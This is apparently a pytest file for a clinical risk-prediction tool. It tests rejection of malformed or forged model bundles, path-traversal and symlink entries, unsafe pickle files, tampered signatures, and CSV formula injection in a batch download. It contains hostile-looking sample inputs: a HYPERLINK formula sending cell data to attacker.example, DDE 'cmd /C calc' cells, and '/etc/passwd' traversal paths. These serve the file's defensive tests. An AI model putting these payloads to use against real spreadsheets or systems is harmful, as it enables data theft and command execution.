"""Bad-input corpus: model bundles, the batch-scoring CSV download and the local slide folder (issue 13).

Every case builds its bad input here, from a copy of a shipped bundle, and asserts the message class
(BundleError / SlideOutsideFolderError, all InputErrors) and the clinician's sentence; where other inputs
sit beside the bad one (the sidebar's other models, the other slides of a folder) it asserts they survived.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

import mrrp.resources as resources
from mrrp.errors import InputError, SlideError
from mrrp.model.bundle import BundleError, bundle_checksum, load_bundle, open_bundle
from mrrp.pcr.bundle import load_pcr_bundle
from mrrp.resources import BUNDLED_DIGESTS, bundled_model_dir

REPO = Path(__file__).resolve().parents[2]
SHIPPED = {name: REPO / "assets" / "models" / name for name in BUNDLED_DIGESTS}


def rewrite_checksums(folder: Path, names: list[str] | None = None) -> None:
    """checksums.json made consistent again (as a forger would), over ``names`` or every plain file."""
    names = names if names is not None else sorted(p.name for p in folder.iterdir() if p.is_file())
    sums = {n: hashlib.sha256((folder / n).read_bytes()).hexdigest() for n in names if n != "checksums.json"}
    (folder / "checksums.json").write_text(json.dumps(sums, indent=2))


def edit_json(folder: Path, name: str, change: Callable[[object], object]) -> None:
    (folder / name).write_text(json.dumps(change(json.loads((folder / name).read_text()))))


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    """A byte-identical copy of the bundled mrrp-demo outside the package (an ordinary site bundle)."""
    return Path(shutil.copytree(SHIPPED["mrrp-demo"], tmp_path / "site-model"))


@pytest.fixture
def pcr_bundle(tmp_path: Path) -> Path:
    return Path(shutil.copytree(SHIPPED["pcr-demo"], tmp_path / "site-pcr"))


def assert_clinician_sentence(exc: pytest.ExceptionInfo[BundleError], *fragments: str) -> None:
    message = str(exc.value)
    assert isinstance(exc.value, InputError)
    assert "\n" not in message and "Traceback" not in message
    for fragment in fragments:
        assert fragment in message, message


# --- the shipped bundles are what the package pins ------------------------------------------------------


@pytest.mark.parametrize("name", sorted(BUNDLED_DIGESTS))
def test_pinned_digests_are_the_shipped_bundles(name: str) -> None:
    # After `make model`, update mrrp.resources.BUNDLED_DIGESTS with the new bundle_checksum.
    assert bundle_checksum(SHIPPED[name]) == BUNDLED_DIGESTS[name]
    assert open_bundle(bundled_model_dir(name)).checksum == BUNDLED_DIGESTS[name]


# --- entries that point outside, links, unlisted files --------------------------------------------------


@pytest.mark.parametrize(
    "entry",
    ["../../../../etc/passwd", "/etc/passwd", "../outside.json", "sub/../../outside.json", "..\\outside.json", ".."],
)
def test_an_entry_outside_the_bundle_is_never_opened(bundle: Path, entry: str, monkeypatch: pytest.MonkeyPatch) -> None:
    import mrrp.model.bundle as mb

    (bundle.parent / "outside.json").write_text("{}")
    sums = json.loads((bundle / "checksums.json").read_text())
    sums[entry] = hashlib.sha256(b"{}").hexdigest()
    (bundle / "checksums.json").write_text(json.dumps(sums))
    opened: list[str] = []
    real = mb._read_plain_file
    monkeypatch.setattr(mb, "_read_plain_file", lambda folder, name: opened.append(name) or real(folder, name))
    with pytest.raises(BundleError) as exc:
        load_bundle(bundle)
    assert_clinician_sentence(exc, "lists a file outside its folder", "was not opened")
    assert opened == ["checksums.json"], "nothing but checksums.json may be read before the entries are checked"


def test_a_fold_that_links_outside_the_bundle_is_refused(bundle: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.move(bundle / "fold_1.pt", elsewhere / "fold_1.pt")
    (bundle / "fold_1.pt").symlink_to(elsewhere / "fold_1.pt")  # same bytes, same checksum: only the link is wrong
    with pytest.raises(BundleError) as exc:
        load_bundle(bundle)
    assert_clinician_sentence(exc, "failed its integrity check", "fold_1.pt is a link")


def test_a_link_inside_the_bundle_is_refused_too(bundle: Path) -> None:
    (bundle / "fold_1.pt").unlink()
    (bundle / "fold_1.pt").symlink_to(bundle / "fold_0.pt")
    rewrite_checksums(bundle)
    with pytest.raises(BundleError) as exc:
        load_bundle(bundle)
    assert_clinician_sentence(exc, "fold_1.pt is a link")


def test_a_linked_checksums_file_is_refused(bundle: Path, tmp_path: Path) -> None:
    shutil.move(bundle / "checksums.json", tmp_path / "sums.json")
    (bundle / "checksums.json").symlink_to(tmp_path / "sums.json")
    with pytest.raises(BundleError) as exc:
        load_bundle(bundle)
    assert_clinician_sentence(exc, "is not a model bundle", "link")


@pytest.mark.parametrize("unlisted", ["cutoffs.json", "config.json", "reference_risk.json", "baseline.json"])
def test_a_file_missing_from_checksums_is_not_read_unchecked(bundle: Path, unlisted: str) -> None:
    edit_json(bundle, unlisted, lambda v: v)  # still there, but no longer vouched for
    rewrite_checksums(bundle, [p.name for p in bundle.iterdir() if p.name != unlisted])
    with pytest.raises(BundleError) as exc:
        load_bundle(bundle)
    assert_clinician_sentence(exc, f"does not list {unlisted}")


def test_a_listed_folder_is_not_a_file(bundle: Path) -> None:
    (bundle / "extra").mkdir()
    sums = json.loads((bundle / "checksums.json").read_text())
    (bundle / "checksums.json").write_text(json.dumps({**sums, "extra": "0" * 64}))
    with pytest.raises(BundleError) as exc:
        load_bundle(bundle)
    assert_clinician_sentence(exc, "extra is not a file")


def test_a_missing_folder_is_not_a_bundle(tmp_path: Path) -> None:
    with pytest.raises(BundleError) as exc:
        load_bundle(tmp_path / "nothing")
    assert_clinician_sentence(exc, "'nothing' is not a model bundle")


# --- malformed bundles: one sentence each, naming the file ----------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["", "not json", "[]", '"a string"', '{"config.json": 5}', '{"config.json": "abc"}', "{" * 100000],
)
def test_malformed_checksums_json(bundle: Path, text: str) -> None:
    (bundle / "checksums.json").write_text(text)
    with pytest.raises(BundleError) as exc:
        load_bundle(bundle)
    assert_clinician_sentence(exc, "checksums.json is not a list of file checksums")


def _random_bytes(folder: Path) -> None:
    (folder / "fold_1.pt").write_bytes(bytes(range(256)) * 64)


def _truncated(folder: Path) -> None:
    data = (folder / "fold_1.pt").read_bytes()
    (folder / "fold_1.pt").write_bytes(data[: len(data) // 2])


def _torch_save(folder: Path, obj: object) -> None:
    import torch

    torch.save(obj, folder / "fold_1.pt")


def _fold_state(folder: Path) -> dict:
    import torch

    return torch.load(folder / "fold_1.pt", weights_only=True)


def _shape_mismatch(folder: Path) -> None:
    state = _fold_state(folder)
    key = next(k for k, v in state.items() if v.ndim == 2)
    state[key] = state[key][:, :-1].clone()
    _torch_save(folder, state)


def _missing_key(folder: Path) -> None:
    state = _fold_state(folder)
    state.pop(next(iter(state)))
    _torch_save(folder, state)


def _nan_weight(folder: Path) -> None:
    state = _fold_state(folder)
    key = next(k for k, v in state.items() if v.is_floating_point())
    state[key] = state[key].clone()
    state[key].view(-1)[0] = float("nan")
    _torch_save(folder, state)


def _pickle_payload(folder: Path) -> None:
    import pickle

    class Payload:
        def __reduce__(self) -> tuple:
            return (print, ("this must never run",))

    (folder / "fold_1.pt").write_bytes(pickle.dumps(Payload(), protocol=2))


def _fold_gap(folder: Path) -> None:
    (folder / "fold_4.pt").rename(folder / "fold_7.pt")


def _odd_fold_name(folder: Path) -> None:
    shutil.copy(folder / "fold_0.pt", folder / "fold_x.pt")


def _json(name: str, text: str) -> Callable[[Path], None]:
    return lambda folder: (folder / name).write_text(text)


def _edit(name: str, change: Callable[[object], object]) -> Callable[[Path], None]:
    return lambda folder: edit_json(folder, name, change)


MALFORMED: dict[str, tuple[Callable[[Path], None], str]] = {
    "random-bytes fold": (_random_bytes, "fold_1.pt is not a readable model file"),
    "truncated fold": (_truncated, "fold_1.pt is not a readable model file"),
    "pickle payload fold": (_pickle_payload, "fold_1.pt is not a readable model file"),
    "fold holds a list": (lambda f: _torch_save(f, [1, 2, 3]), "fold_1.pt does not hold model weights"),
    "fold holds non-tensors": (lambda f: _torch_save(f, {"w": 1.0}), "fold_1.pt does not hold model weights"),
    "fold shape mismatch": (_shape_mismatch, "fold_1.pt does not match the model described in config.json"),
    "fold missing a tensor": (_missing_key, "fold_1.pt does not match the model described in config.json"),
    "fold NaN weight": (_nan_weight, "fold_1.pt holds weights that are not numbers"),
    "fold numbers with a gap": (_fold_gap, "does not list the fold models"),
    "fold oddly named": (_odd_fold_name, "fold_x.pt is not a fold model's name"),
    "config invalid JSON": (_json("config.json", "{not json"), "config.json is not valid JSON"),
    "config a list": (_json("config.json", "[1, 2]"), "config.json does not hold a JSON object"),
    "config NaN": (_edit("config.json", lambda c: {**c, "x": float("nan")}), "config.json is not valid JSON"),
    "config deeply nested": (_json("config.json", "[" * 200000 + "]" * 200000), "config.json is not valid JSON"),
    "config not UTF-8": (lambda f: (f / "config.json").write_bytes(b"\xff\xfe{}"), "config.json is not valid JSON"),
    "config without fusion": (
        _edit("config.json", lambda c: {k: v for k, v in c.items() if k != "fusion"}),
        "config.json does not have the expected contents",
    ),
    "config fusion unknown key": (
        _edit("config.json", lambda c: {**c, "fusion": {**c["fusion"], "bogus": 1}}),
        "config.json does not have the expected contents",
    ),
    "config fusion wrong width": (
        _edit("config.json", lambda c: {**c, "fusion": {**c["fusion"], "d": 2 * c["fusion"]["d"]}}),
        "does not match the model described in config.json",
    ),
    "reference risks NaN": (_json("reference_risk.json", "[0.1, NaN, 0.3]"), "reference_risk.json is not valid"),
    "reference risks Infinity": (_json("reference_risk.json", "[0.1, Infinity]"), "reference_risk.json is not valid"),
    "reference risks empty": (_json("reference_risk.json", "[]"), "reference_risk.json does not hold the expected"),
    "reference risks object": (_json("reference_risk.json", "{}"), "reference_risk.json does not hold a JSON list"),
    "reference risks text": (_json("reference_risk.json", '["a", "b"]'), "reference_risk.json does not have"),
    "reference risks nested": (_json("reference_risk.json", "[[1, 2]]"), "reference_risk.json does not hold the"),
    "cut-offs missing key": (_json("cutoffs.json", '{"low_upper": 0}'), "cutoffs.json does not have"),
    "cut-offs NaN": (_edit("cutoffs.json", lambda c: {**c, "low_upper": float("nan")}), "cutoffs.json is not valid"),
    "cut-offs reversed": (
        _edit("cutoffs.json", lambda c: {**c, "low_upper": 5.0, "high_lower": -5.0}),
        "cutoffs.json does not have the expected contents",
    ),
    "cut-offs a list": (_json("cutoffs.json", "[0, 1]"), "cutoffs.json does not hold a JSON object"),
    "baseline members short": (
        _edit("baseline.json", lambda b: {**b, "members": b["members"][:2]}),
        "baseline.json has 2 member curves for 5 fold models",
    ),
    "baseline offsets short": (
        _edit("baseline.json", lambda b: {**b, "member_offsets": b["member_offsets"][:1]}),
        "baseline.json does not hold the expected numbers",
    ),
    "baseline without ensemble": (
        _edit("baseline.json", lambda b: {k: v for k, v in b.items() if k != "ensemble"}),
        "baseline.json does not have the expected contents",
    ),
    "baseline curve lengths differ": (
        _edit("baseline.json", lambda b: {**b, "ensemble": {**b["ensemble"], "times": b["ensemble"]["times"][:-1]}}),
        "baseline.json does not",
    ),
    "model card not JSON": (_json("model_card.json", "<html>"), "model_card.json is not valid JSON"),
    "training summary a list": (_json("training_summary.json", "[]"), "training_summary.json does not hold a JSON"),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_a_malformed_bundle_gives_one_sentence(bundle: Path, case: str, capsys: pytest.CaptureFixture) -> None:
    damage, fragment = MALFORMED[case]
    damage(bundle)
    rewrite_checksums(bundle)  # consistent checksums: the damage is in the contents, not the integrity
    with pytest.raises(BundleError) as exc:
        load_bundle(bundle)
    assert_clinician_sentence(exc, fragment, "'site-model'", "reinstall or retrain it")
    assert "must never run" not in capsys.readouterr().out


def test_eleven_folds_are_read_in_number_order(bundle: Path) -> None:
    """fold_10.pt sorts before fold_2.pt as text; the members must follow baseline.json's order."""
    from mrrp.model.bundle import _fold_names

    for k in range(5, 11):
        shutil.copy(bundle / "fold_0.pt", bundle / f"fold_{k}.pt")
    rewrite_checksums(bundle)
    assert _fold_names(open_bundle(bundle)) == [f"fold_{k}.pt" for k in range(11)]


# --- pCR bundles share the reader -----------------------------------------------------------------------

PCR_MALFORMED: dict[str, tuple[Callable[[Path], None], str]] = {
    "random-bytes network": (lambda f: (f / "model.pt").write_bytes(b"\x00" * 999), "model.pt is not a readable"),
    "heads not a list": (lambda f: _torch_save_as(f, "fusion_heads.pt", {"a": 1}), "fusion_heads.pt does not hold"),
    "heads empty": (lambda f: _torch_save_as(f, "fusion_heads.pt", []), "fusion_heads.pt does not hold"),
    "config a list": (_json("config.json", "[]"), "config.json does not hold a JSON object"),
    "config without net": (
        _edit("config.json", lambda c: {k: v for k, v in c.items() if k != "net"}),
        "config.json describes a network that cannot be built",
    ),
    "evaluation invalid": (_json("evaluation.json", "{"), "evaluation.json is not valid JSON"),
}


def _torch_save_as(folder: Path, name: str, obj: object) -> None:
    import torch

    torch.save(obj, folder / name)


@pytest.mark.parametrize("case", sorted(PCR_MALFORMED))
def test_a_malformed_pcr_bundle_gives_one_sentence(pcr_bundle: Path, case: str) -> None:
    damage, fragment = PCR_MALFORMED[case]
    damage(pcr_bundle)
    rewrite_checksums(pcr_bundle)
    with pytest.raises(BundleError) as exc:
        load_pcr_bundle(pcr_bundle)
    assert_clinician_sentence(exc, fragment)


def test_a_pcr_entry_outside_the_bundle_is_refused(pcr_bundle: Path) -> None:
    sums = json.loads((pcr_bundle / "checksums.json").read_text())
    (pcr_bundle / "checksums.json").write_text(json.dumps({**sums, "../../../../etc/passwd": "0" * 64}))
    with pytest.raises(BundleError) as exc:
        load_pcr_bundle(pcr_bundle)
    assert_clinician_sentence(exc, "lists a file outside its folder")


# --- authenticity: a changed bundled model is refused ---------------------------------------------------


@pytest.fixture
def shipped_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The package's shipped tree, copied to tmp and made the one mrrp loads its bundled models from."""
    root = tmp_path / "installed"
    for name, src in SHIPPED.items():
        shutil.copytree(src, root / "assets" / "models" / name)
    monkeypatch.setattr(resources, "bundled_root", lambda: root)
    return root


def forge_cutoffs(folder: Path) -> None:
    """Everyone 'low risk': cut-offs moved above every patient, checksums.json rewritten to match."""
    edit_json(folder, "cutoffs.json", lambda c: {**c, "low_upper": 50.0, "high_lower": 60.0})
    rewrite_checksums(folder)


def test_an_unchanged_copy_in_the_bundled_place_loads(shipped_root: Path) -> None:
    assert bundled_model_dir("mrrp-demo").is_relative_to(shipped_root)
    assert load_bundle(bundled_model_dir("mrrp-demo")).checksum == BUNDLED_DIGESTS["mrrp-demo"]


def test_a_forged_bundled_model_is_refused(shipped_root: Path) -> None:
    folder = bundled_model_dir("mrrp-demo")
    forge_cutoffs(folder)
    open_bundle(folder, verify_pin=False)  # integrity alone is satisfied: that is the forgery
    with pytest.raises(BundleError) as exc:
        load_bundle(folder)
    assert_clinician_sentence(exc, "The bundled model 'mrrp-demo' is not the one this version of mrrp ships")


def test_a_forged_bundled_pcr_model_is_refused(shipped_root: Path) -> None:
    folder = bundled_model_dir("pcr-demo")
    edit_json(folder, "config.json", lambda c: {**c, "threshold": 0.99})
    rewrite_checksums(folder)
    with pytest.raises(BundleError) as exc:
        load_pcr_bundle(folder)
    assert_clinician_sentence(exc, "The bundled model 'pcr-demo' is not the one")


def test_a_forged_copy_elsewhere_is_not_taken_for_the_bundled_model(bundle: Path) -> None:
    from mrrp.dashboard.models import is_bundled

    assert is_bundled(bundle), "a byte-identical copy is the bundled model"
    forge_cutoffs(bundle)
    assert not is_bundled(bundle), "a changed copy is a site model: no bundled label, whatever its name says"
    assert load_bundle(bundle).cutoffs.low_upper == 50.0  # a site bundle, integrity-checked only


def test_the_cli_refuses_a_forged_bundled_model_in_one_line(shipped_root: Path, capsys: pytest.CaptureFixture) -> None:
    from mrrp.cli import main

    forge_cutoffs(bundled_model_dir("mrrp-demo"))
    assert main(["predict", "--manifest", str(shipped_root / "none.csv")]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "is not the one this version of mrrp ships" in err[0]


def test_the_dashboard_loader_refuses_a_forged_bundled_model(shipped_root: Path) -> None:
    from mrrp.dashboard.models import _load_uncached, model_error_message

    folder = bundled_model_dir("mrrp-demo")
    forge_cutoffs(folder)
    with pytest.raises(BundleError) as exc:
        _load_uncached(str(folder))
    assert "Using the bundled model instead" in model_error_message(exc.value, "models/site")


@pytest.mark.parametrize("case", ["random-bytes fold", "reference risks NaN", "fold shape mismatch"])
def test_the_cli_gives_one_line_for_a_malformed_bundle(bundle: Path, case: str, capsys: pytest.CaptureFixture) -> None:
    from mrrp.cli import main

    damage, fragment = MALFORMED[case]
    damage(bundle)
    rewrite_checksums(bundle)
    assert main(["predict", "--model", str(bundle), "--manifest", str(bundle / "none.csv")]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and fragment in err[0] and "Traceback" not in err[0]


def test_the_sidebar_shows_one_sentence_for_a_malformed_site_bundle(dashboard_env: Path) -> None:
    from streamlit.testing.v1 import AppTest

    site = Path(shutil.copytree(SHIPPED["mrrp-demo"], dashboard_env / "models" / "broken"))
    _random_bytes(site)
    rewrite_checksums(site)
    shutil.copytree(SHIPPED["mrrp-demo"], dashboard_env / "models" / "good")
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
    at.session_state["model_choice"] = "broken (site model)"
    at.run()
    assert not at.exception
    errors = [e.value for e in at.sidebar.error]
    assert len(errors) == 1 and "fold_1.pt is not a readable model file" in errors[0]
    assert "Using the bundled model instead" in errors[0]
    # the other models survived: still offered, and the session fell back to the bundled one
    assert "good (site model)" in at.selectbox(key="model_choice").options
    assert at.session_state["model_path"] == str(bundled_model_dir("mrrp-demo"))


# --- CSV formula injection in the batch-scoring download ------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=1+1",
]


def _batch_csv(patient_id: str, site: str = "INT", left_out: str = "") -> list[dict[str, str]]:
    from mrrp.dashboard.batch import BatchResult

    row = {
        "patient_id": patient_id,
        "site": site,
        "split": "test",
        "risk_group": "low",
        "percentile": 12.5,
        "log_risk": -0.4321,
        "log_risk_lower": -1.25,
        "log_risk_upper": 0.5,
        "recurrence_5y": 0.05,
        "compensated": "",
        "inputs_left_out": left_out,
        "model_version": "mrrp-demo@abc",
        "notice": "=notice",
    }
    data = BatchResult([], [row], "mrrp-demo@abc", "=notice").to_csv()
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", ["patient_id", "site", "inputs_left_out"])
def test_formula_cells_are_neutralised(payload: str, column: str) -> None:
    args = {"patient_id": "P-1", "site": "INT", "left_out": ""}
    args[{"inputs_left_out": "left_out"}.get(column, column)] = payload
    (row,) = _batch_csv(**args)  # one row: a carriage return never starts a new one
    assert row[column] == "'" + payload.replace("\r", "\n"), "shown as text by a spreadsheet, the payload readable"
    assert row["notice"] == "'=notice"
    assert row["patient_id" if column != "patient_id" else "site"] in ("P-1", "INT"), "the other cells survived"


@pytest.mark.parametrize("payload", ["P-1\r=1+1", "P-1\r\n@SUM(A1)", "P-1\n=cmd"])
def test_a_line_break_inside_a_cell_cannot_start_a_formula_row(payload: str) -> None:
    rows = _batch_csv(payload)
    assert len(rows) == 1 and rows[0]["patient_id"].startswith("P-1") and "\r" not in rows[0]["patient_id"]


def test_numbers_stay_numbers_in_the_download() -> None:
    (row,) = _batch_csv("P-1")
    assert row["log_risk"] == "-0.4321" and row["log_risk_lower"] == "-1.25" and row["percentile"] == "12.5"
    assert row["patient_id"] == "P-1" and row["recurrence_5y"] == "0.05"


@pytest.mark.parametrize("value", ["P-1", "INT 0001", "a=b", "x@y", "", "'already quoted"])
def test_ordinary_text_is_unchanged(value: str) -> None:
    from mrrp.dashboard.batch import neutralise_cell

    assert neutralise_cell(value) == value


# --- the local slide folder: links out of it are neither listed nor opened ------------------------------


@pytest.fixture
def slide_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "slides"
    (folder / "sub").mkdir(parents=True)
    (folder / "real.svs").write_bytes(b"II*\x00slide")
    (folder / "sub" / "inner.tif").write_bytes(b"II*\x00slide")
    outside = tmp_path / "secret.txt"
    outside.write_text("root:x:0:0")
    (folder / "passwd.svs").symlink_to("/etc/passwd")
    (folder / "secret.svs").symlink_to(outside)
    (folder / "sub" / "up.tif").symlink_to("../../secret.txt")
    (folder / "dangling.svs").symlink_to(tmp_path / "missing.svs")
    (folder / "alias.svs").symlink_to(folder / "real.svs")  # inside the folder: allowed
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "far.svs").write_bytes(b"II*\x00")
    (folder / "linked_dir").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    return folder


def test_links_out_of_the_slide_folder_are_not_listed(slide_folder: Path) -> None:
    from mrrp.io.slide_files import list_local_slides

    listed = [str(p.relative_to(slide_folder)) for p in list_local_slides(slide_folder, max_depth=3)]
    assert listed == ["alias.svs", "real.svs", "sub/inner.tif"], "the other slides survived"


@pytest.mark.parametrize("name", ["passwd.svs", "secret.svs", "sub/up.tif"])
def test_opening_a_link_out_of_the_slide_folder_is_refused(slide_folder: Path, name: str) -> None:
    from mrrp.io.slide_files import SlideOutsideFolderError, resolve_local_slide

    with pytest.raises(SlideOutsideFolderError) as exc:
        resolve_local_slide(slide_folder, name)
    assert isinstance(exc.value, SlideError)
    assert "points to a file outside the local slide folder, so it was not opened" in str(exc.value)
    with pytest.raises(SlideOutsideFolderError):
        resolve_local_slide(slide_folder, slide_folder / name)  # absolute path too


@pytest.mark.parametrize("name", ["dangling.svs", "nothing.svs"])
def test_a_missing_local_slide_is_refused(slide_folder: Path, name: str) -> None:
    from mrrp.io.slide_files import resolve_local_slide

    with pytest.raises(SlideError):
        resolve_local_slide(slide_folder, name)


def test_a_link_inside_the_slide_folder_opens(slide_folder: Path) -> None:
    from mrrp.io.slide_files import resolve_local_slide

    assert resolve_local_slide(slide_folder, "alias.svs") == slide_folder / "alias.svs"
    assert resolve_local_slide(slide_folder, "sub/inner.tif") == slide_folder / "sub" / "inner.tif"


# --- authenticity of site bundles: signatures and the trusted keys --------------------------------------


@pytest.fixture
def keys(tmp_path: Path) -> dict[str, Path]:
    """Two site keys made by `mrrp keygen`; only Site A's public key is in the trusted-keys file."""
    from mrrp.model.signing import generate_key

    folder = tmp_path / "keys"
    folder.mkdir()
    a_pub, a_line = generate_key(folder / "site-a.key", "Site A")
    generate_key(folder / "other.key", "Someone else")
    trusted = folder / "trusted_keys"
    trusted.write_text(f"# keys this site trusts\n{a_line}\n")
    return {"a": folder / "site-a.key", "other": folder / "other.key", "trusted": trusted, "a_pub": a_pub}


@pytest.fixture
def site_bundle(bundle: Path) -> Path:
    """A site's own bundle (not the bundled model): the copy with its own model card, checksums rewritten."""
    edit_json(bundle, "model_card.json", lambda c: {**c, "name": "site model"})
    rewrite_checksums(bundle)
    return bundle


def _settings(keys: dict[str, Path] | None = None, *, allow: bool = False):
    from mrrp.settings import load_settings

    env = {"MRRP_TRUSTED_KEYS": str(keys["trusted"])} if keys else {}
    return load_settings({**env, **({"MRRP_ALLOW_UNSIGNED": "1"} if allow else {})})


def test_a_bundle_signed_by_a_trusted_key_names_its_signer(site_bundle: Path, keys: dict[str, Path]) -> None:
    from mrrp.model.signing import require_trusted, sign_bundle

    before = bundle_checksum(site_bundle)
    sign_bundle(site_bundle, keys["a"])
    assert bundle_checksum(site_bundle) == before, "signing changes neither the checksum nor the version"
    trust = require_trusted(site_bundle, before, _settings(keys))
    assert (trust.kind, trust.signer, trust.describe()) == ("signed", "Site A", "Signed by Site A.")
    assert load_bundle(site_bundle).checksum == before


def test_the_bundled_model_needs_no_signature() -> None:
    from mrrp.model.signing import require_trusted

    trust = require_trusted(SHIPPED["mrrp-demo"], BUNDLED_DIGESTS["mrrp-demo"], _settings())
    assert trust.kind == "bundled" and trust.trusted


@pytest.mark.parametrize("signer", [None, "other"])
def test_an_unsigned_or_untrusted_site_bundle_is_refused_by_default(
    site_bundle: Path, keys: dict[str, Path], signer: str | None
) -> None:
    from mrrp.model.signing import UntrustedBundleError, require_trusted, sign_bundle

    if signer:
        sign_bundle(site_bundle, keys[signer])
    checksum = bundle_checksum(site_bundle)
    with pytest.raises(UntrustedBundleError) as exc:
        require_trusted(site_bundle, checksum, _settings(keys))
    assert_clinician_sentence(exc, "so it was not loaded", "MRRP_ALLOW_UNSIGNED")
    allowed = require_trusted(site_bundle, checksum, _settings(keys, allow=True))
    assert not allowed.trusted and allowed.kind == ("untrusted" if signer else "unsigned")


def _forge_after_signing(folder: Path) -> None:
    forge_cutoffs(folder)


def _signature_swapped_key(folder: Path, keys: dict[str, Path]) -> None:
    """The trusted public key pasted into a signature made by another key."""
    sig = json.loads((folder / "signature.json").read_text())
    trusted_key = keys["a_pub"].read_text().split()[-1]
    (folder / "signature.json").write_text(json.dumps({**sig, "public_key": trusted_key}))


TAMPERED_SIGNATURES: dict[str, tuple[Callable[[Path, dict[str, Path]], None], str]] = {
    "cut-offs changed after signing": (lambda f, k: _forge_after_signing(f), "does not match its signature"),
    "trusted key pasted in": (_signature_swapped_key, "does not match its signature"),
    "signature not JSON": (lambda f, k: (f / "signature.json").write_text("{"), "malformed signature.json"),
    "signature a list": (lambda f, k: (f / "signature.json").write_text("[]"), "malformed signature.json"),
    "signature too short": (
        lambda f, k: edit_json(f, "signature.json", lambda s: {**s, "signature": "AAAA"}),
        "malformed signature.json",
    ),
    "signature a link": (
        lambda f, k: (f / "signature.json").unlink() or (f / "signature.json").symlink_to(k["trusted"]),
        "unusable signature",
    ),
}


@pytest.mark.parametrize("case", sorted(TAMPERED_SIGNATURES))
def test_a_tampered_signature_is_refused_even_when_unsigned_is_allowed(
    site_bundle: Path, keys: dict[str, Path], case: str
) -> None:
    from mrrp.model.signing import require_trusted, sign_bundle

    sign_bundle(site_bundle, keys["other" if case == "trusted key pasted in" else "a"])
    damage, fragment = TAMPERED_SIGNATURES[case]
    damage(site_bundle, keys)
    with pytest.raises(BundleError) as exc:
        require_trusted(site_bundle, load_bundle(site_bundle).checksum, _settings(keys, allow=True))
    assert_clinician_sentence(exc, fragment)


@pytest.mark.parametrize(
    "text", ["Site A", "Site A not-base64!", "Site A AAAA", "\xff"], ids=["no key", "not base64", "short", "binary"]
)
def test_a_bad_trusted_keys_file_says_which_line(tmp_path: Path, text: str) -> None:
    from mrrp.model.signing import SigningError, read_trusted_keys

    path = tmp_path / "trusted"
    path.write_bytes(text.encode("latin-1"))
    with pytest.raises(SigningError) as exc:
        read_trusted_keys(path)
    assert "trusted-keys file" in str(exc.value)


def test_the_private_key_never_enters_a_bundle_or_the_repository(site_bundle: Path, keys: dict[str, Path]) -> None:
    from mrrp.model.signing import SigningError, generate_key, sign_bundle

    with pytest.raises(SigningError, match="inside a model bundle"):
        generate_key(site_bundle / "site.key", "Site A")
    with pytest.raises(SigningError, match="inside a git repository"):
        generate_key(REPO / "site-test.key", "Site A")
    assert not (REPO / "site-test.key").exists()
    with pytest.raises(SigningError, match="never overwritten"):
        generate_key(keys["a"], "Site A")
    shutil.copy(keys["a"], site_bundle / "site.key")
    with pytest.raises(SigningError, match="inside the bundle it signs"):
        sign_bundle(site_bundle, site_bundle / "site.key")
    with pytest.raises(SigningError, match="not an unencrypted Ed25519 private key"):
        sign_bundle(site_bundle, keys["trusted"])
    assert keys["a"].stat().st_mode & 0o077 == 0, "the private key is readable by its owner only"


def test_the_cli_signs_and_predict_says_who_signed(
    site_bundle: Path, tmp_path: Path, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    from conftest import CLINICAL_RECORD

    from mrrp.cli import main
    from mrrp.io.manifest import write_manifest

    key = tmp_path / "site.key"
    assert main(["keygen", "--out", str(key), "--name", "Breast Unit, Site A"]) == 0
    line = capsys.readouterr().out.strip().splitlines()[-1]
    (tmp_path / "trusted").write_text(line + "\n")
    assert main(["sign", "--model", str(site_bundle), "--key", str(key)]) == 0
    capsys.readouterr()
    manifest = write_manifest(
        [{"patient_id": "P-1", "site": "here", "split": "predict", **CLINICAL_RECORD}], tmp_path / "m.csv"
    )
    monkeypatch.delenv("MRRP_ALLOW_UNSIGNED", raising=False)
    monkeypatch.setenv("MRRP_TRUSTED_KEYS", str(tmp_path / "trusted"))
    argv = ["predict", "--model", str(site_bundle), "--manifest", str(manifest), "--cache-dir", str(tmp_path / "c")]
    assert main(argv) == 0
    out = capsys.readouterr()
    assert "Model: Signed by Breast Unit, Site A." in out.out.splitlines() and not out.err
    assert main([*argv, "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["model"]["signed_by"] == "Breast Unit, Site A"
    # the same bundle, nobody trusted: refused in one line; allowed by the site: used with a warning
    monkeypatch.delenv("MRRP_TRUSTED_KEYS")
    assert main(argv) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "is signed with a key this site does not trust" in err[0]
    monkeypatch.setenv("MRRP_ALLOW_UNSIGNED", "1")
    assert main(argv) == 0
    out = capsys.readouterr()
    assert "P-1:" in out.out and "mrrp: warning: Signed with a key this site does not list as trusted" in out.err


def test_the_sidebar_refuses_an_unsigned_site_bundle_and_names_a_signer(
    dashboard_env: Path, keys: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from streamlit.testing.v1 import AppTest

    from mrrp.model.signing import sign_bundle

    models = dashboard_env / "models"
    for name in ("unsigned", "signed"):
        site = Path(shutil.copytree(SHIPPED["mrrp-demo"], models / name))
        edit_json(site, "model_card.json", lambda c, n=name: {**c, "name": n})
        rewrite_checksums(site)
    sign_bundle(models / "signed", keys["a"])
    monkeypatch.delenv("MRRP_ALLOW_UNSIGNED", raising=False)
